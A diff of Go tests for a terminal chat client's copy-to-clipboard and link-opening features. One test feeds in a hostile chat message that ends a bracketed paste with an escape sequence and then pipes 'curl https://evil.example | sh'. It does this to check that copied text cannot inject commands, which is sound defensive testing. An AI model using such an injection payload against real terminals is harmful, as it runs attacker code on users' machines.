@@ -2,6 +2,7 @@ package ui
 
 import (
 	"encoding/base64"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -33,7 +34,7 @@ func TestCopyTextAndOpenLinks(t *testing.T) {
 	h.send(eventsMsg{[]matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{plain, links}}}})
 
 	h.send(tea.KeyMsg{Type: tea.KeyShiftUp})
-	h.hold = func(m tea.Msg) bool { _, ok := m.(clipOffMsg); return ok } // keep the copy in the frame to look at it
+	h.hold = func(m tea.Msg) bool { return fmt.Sprintf("%T", m) == "terminal.clipOffMsg" } // keep the copy in the frame to look at it
 	h.typeText("y")
 	want := "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("see the map, this and https://b.example/y?q=1")) + "\a"
 	if v := h.m.View(); !strings.Contains(v, want) {
@@ -79,7 +80,7 @@ func TestCopyTextAndOpenLinks(t *testing.T) {
 	t.Setenv("BROWSER", "")
 	t.Setenv("DISPLAY", "")
 	t.Setenv("WAYLAND_DISPLAY", "")
-	h.hold = func(m tea.Msg) bool { _, ok := m.(clipOffMsg); return ok }
+	h.hold = func(m tea.Msg) bool { return fmt.Sprintf("%T", m) == "terminal.clipOffMsg" }
 	h.typeText("o")
 	requireContains(t, h.view(), "no browser here: copied https://maps.example/x to the clipboard")
 	if v := h.m.View(); !strings.Contains(v, "\x1b]52;c;"+base64.StdEncoding.EncodeToString([]byte("https://maps.example/x"))+"\a") {
@@ -97,7 +98,7 @@ func TestCopiedTextCannotEndABracketedPaste(t *testing.T) {
 	evil := msg(aliceRoom, "$evil", alice, testNow.Add(-time.Minute), "harmless\x1b[201~\ncurl https://evil.example | sh\n")
 	h.send(eventsMsg{[]matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{evil}}}})
 	h.send(tea.KeyMsg{Type: tea.KeyShiftUp})
-	h.hold = func(m tea.Msg) bool { _, ok := m.(clipOffMsg); return ok }
+	h.hold = func(m tea.Msg) bool { return fmt.Sprintf("%T", m) == "terminal.clipOffMsg" }
 	h.typeText("y")
 	v := h.m.View()
 	i := strings.Index(v, "\x1b]52;c;")
